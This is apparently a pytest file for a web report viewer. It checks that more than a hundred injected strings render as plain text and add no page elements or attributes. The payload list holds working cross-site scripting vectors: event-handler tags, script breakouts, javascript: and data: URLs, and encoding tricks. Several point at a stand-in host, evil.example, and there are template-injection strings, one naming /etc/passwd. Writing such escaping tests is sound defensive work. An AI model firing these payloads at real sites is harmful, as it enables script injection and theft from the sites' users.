"""A report that attacks its readers is shown as the text it is."""

from __future__ import annotations

from itertools import product

import pytest
from lxml import html

from tests.web.made import SENTENCE, hostile
from web.preferences import Preferences
from web.render import document
from web.viewer import page

TAGS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "details open", "a href=x", "marquee")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
PAYLOADS = [f"<{tag} {event}=alert(1)>" for tag, event in product(TAGS, EVENTS)] + [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</mark></td></table><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/\"onmouseover=alert(1) x=\"",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "#{alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
]  # fmt: skip


def structure(payload: str, at: str) -> tuple[list[tuple[str, list[str]]], str]:
    """The page's elements with the names of their attributes, and its text."""
    values = {"page": page(hostile(payload), at), "panel": False, "switches": []}
    made = html.document_fromstring(document("report.html", Preferences("zh-Hans"), **values))
    elements = [(one.tag, sorted(one.keys())) for one in made.iter() if isinstance(one.tag, str)]
    return elements, made.text_content()


@pytest.mark.parametrize("at", ["t1-r2c2", "p1-0-4"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_adds_no_element_and_no_attribute_and_is_shown_as_written(payload: str, at: str) -> None:
    # A plain text of the same kind, so that only markup could make a difference.
    plain = "https://plain.example/1" if payload.startswith("https://") else "平常的文字1"
    plain = plain if any(character.isdigit() for character in payload) else plain.replace("1", "")
    elements, text = structure(payload, at)
    assert elements == structure(plain, at)[0]
    assert text.count(payload) >= 15
    assert SENTENCE in text


def test_there_are_at_least_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100
